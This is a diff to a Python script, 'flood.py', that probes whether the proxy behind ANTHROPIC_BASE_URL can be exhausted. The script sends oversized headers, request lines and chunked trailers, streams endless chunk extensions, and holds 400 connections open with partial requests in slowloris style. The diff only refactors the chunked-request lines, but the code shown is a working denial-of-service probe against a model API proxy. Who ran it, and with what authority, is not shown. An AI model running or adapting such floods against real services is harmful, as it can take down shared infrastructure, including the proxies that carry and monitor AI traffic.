@@ -1,4 +1,4 @@
-"""flood.py: what could exhaust the proxy behind ANTHROPIC_BASE_URL; then it asks one honest question, and says the answer."""
+"""flood.py: what could exhaust the proxy behind ANTHROPIC_BASE_URL; then one honest question, whose answer it tells."""
 
 import http.client
 import os
@@ -32,8 +32,9 @@ post = ("POST /v1/messages HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (HOST, KEY)).encode
 print("header", until_closed(post, b"X: " + b"a" * 60000 + b"\r\n", 1 << 27) < 1 << 23)
 print("one header", until_closed(post + b"X: ", b"a" * 65536, 1 << 27) < 1 << 23)
 print("request line", until_closed(b"GET /", b"a" * 65536, 1 << 27) < 1 << 23)
-print("trailers", until_closed(post + b"Transfer-Encoding: chunked\r\n\r\n0\r\n", b"X: " + b"a" * 60000 + b"\r\n", 1 << 27) < 1 << 27)
-until_closed(post + b"Transfer-Encoding: chunked\r\n\r\n1;x=", b"a" * 65536, 1 << 28)  # an extension of a chunk is read away
+chunked = post + b"Transfer-Encoding: chunked\r\n\r\n"
+print("trailers", until_closed(chunked + b"0\r\n", b"X: " + b"a" * 60000 + b"\r\n", 1 << 27) < 1 << 27)
+until_closed(chunked + b"1;x=", b"a" * 65536, 1 << 28)  # an extension of a chunk is read away
 idle = [connection() for _ in range(400)]
 for number, client in enumerate(idle):
     client.sendall(post[: number % len(post)])  # slowly, and never to the end
